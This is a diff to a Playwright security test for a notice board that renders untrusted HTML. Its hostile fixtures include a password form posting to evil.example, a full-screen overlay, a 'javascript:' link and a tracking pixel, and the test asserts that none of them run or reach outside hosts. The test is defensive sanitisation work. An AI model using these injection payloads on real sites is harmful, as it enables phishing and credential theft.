@@ -14,38 +14,82 @@ const HOSTILE = [
   '<form action="https://evil.example"><input name="pwd"><button>Send</button></form>',
   '<p style="position:fixed;inset:0" id="app" class="shell">over everything</p>',
 ].join('')
-const list = (texts: object) => JSON.stringify([{ noticeId: 'n1', publishedAt: '2026-01-01', texts }])
+const list = (texts: object) =>
+  JSON.stringify([{ noticeId: 'n1', publishedAt: '2026-01-01', texts }])
 
-test('S1 S2 S4 S5 Posture what others wrote is shown and nothing of it runs, under enforced Trusted Types', async ({ page, home, consoleErrors }) => {
+test('S1 S2 S4 S5 Posture what others wrote is shown and nothing of it runs, under enforced Trusted Types', async ({
+  page,
+  home,
+  consoleErrors,
+}) => {
   const file = path.join(home.dataDir, 'notices.json')
-  const english = { title: 'Maintenance <b>tonight</b>', body: HOSTILE, link: { href: 'javascript:window.ran=8', text: 'Read more' }, image: { src: 'https://evil.example/pixel.png', alt: 'A chart' } }
-  writeFileSync(file, list({ '0': english, '39': { title: 'صيانة الليلة', body: '<p>الساعة <b>02:00</b></p>' } }))
+  const english = {
+    title: 'Maintenance <b>tonight</b>',
+    body: HOSTILE,
+    link: { href: 'javascript:window.ran=8', text: 'Read more' },
+    image: { src: 'https://evil.example/pixel.png', alt: 'A chart' },
+  }
+  writeFileSync(
+    file,
+    list({ '0': english, '39': { title: 'صيانة الليلة', body: '<p>الساعة <b>02:00</b></p>' } }),
+  )
   const { url, stop } = await home.start({ NOTICES: file })
   const strangers: string[] = []
-  page.on('request', (request) => void (new URL(request.url()).origin === url || strangers.push(request.url())))
+  page.on(
+    'request',
+    (request) => void (new URL(request.url()).origin === url || strangers.push(request.url())),
+  )
   const violations: string[] = []
   await page.exposeFunction('violated', (name: string) => violations.push(name))
   await page.addInitScript(() => {
-    document.addEventListener('securitypolicyviolation', (event) => (globalThis as unknown as { violated(name: string): void }).violated(`${event.effectiveDirective} ${event.sample}`))
+    document.addEventListener('securitypolicyviolation', (event) =>
+      (globalThis as unknown as { violated(name: string): void }).violated(
+        `${event.effectiveDirective} ${event.sample}`,
+      ),
+    )
   })
 
   const answer = await page.goto(`${url}/en`)
-  expect(answer?.headers()['content-security-policy']).toContain("require-trusted-types-for 'script'")
+  expect(answer?.headers()['content-security-policy']).toContain(
+    "require-trusted-types-for 'script'",
+  )
   const board = page.getByRole('region', { name: textOf('notices.title') })
   await board.getByText('Maintenance <b>tonight</b>').click()
   await expect(board.getByText('From 02:00 UTC')).toBeVisible()
   await expect(board.getByText('Read more')).toBeVisible()
   await expect(board.getByText('A chart')).toBeVisible()
   const left = await board.evaluate((element) => ({
-    names: [...new Set([...element.querySelectorAll('p, p ~ *, p *')].flatMap((child) => child.getAttributeNames()))].toSorted(),
+    names: [
+      ...new Set(
+        [...element.querySelectorAll('p, p ~ *, p *')].flatMap((child) =>
+          child.getAttributeNames(),
+        ),
+      ),
+    ].toSorted(),
     tags: element.querySelectorAll('script, svg, iframe, form, input, button, style').length,
-    links: [...element.querySelectorAll('a')].map((link) => [link.getAttribute('href'), link.getAttribute('rel')]),
+    links: [...element.querySelectorAll('a')].map((link) => [
+      link.getAttribute('href'),
+      link.getAttribute('rel'),
+    ]),
     ran: (globalThis as { ran?: number }).ran,
   }))
-  expect(left).toEqual({ names: ['alt', 'href', 'rel', 'target'], tags: 0, links: [[null, null], [null, null], ['/spot/ETHUSDT', 'noopener noreferrer']], ran: undefined })
+  expect(left).toEqual({
+    names: ['alt', 'href', 'rel', 'target'],
+    tags: 0,
+    links: [
+      [null, null],
+      [null, null],
+      ['/spot/ETHUSDT', 'noopener noreferrer'],
+    ],
+    ran: undefined,
+  })
   for (const link of await board.locator('a:not([href])').all()) await link.click()
   expect(await page.evaluate(() => (globalThis as { ran?: number }).ran)).toBeUndefined()
-  expect({ violations, strangers, consoleErrors }).toEqual({ violations: [], strangers: [], consoleErrors: [] })
+  expect({ violations, strangers, consoleErrors }).toEqual({
+    violations: [],
+    strangers: [],
+    consoleErrors: [],
+  })
 
   await page.goto(`${url}/ar`)
   const arabic = page.getByRole('region', { name: textOf('notices.title', { language: 'ar' }) })
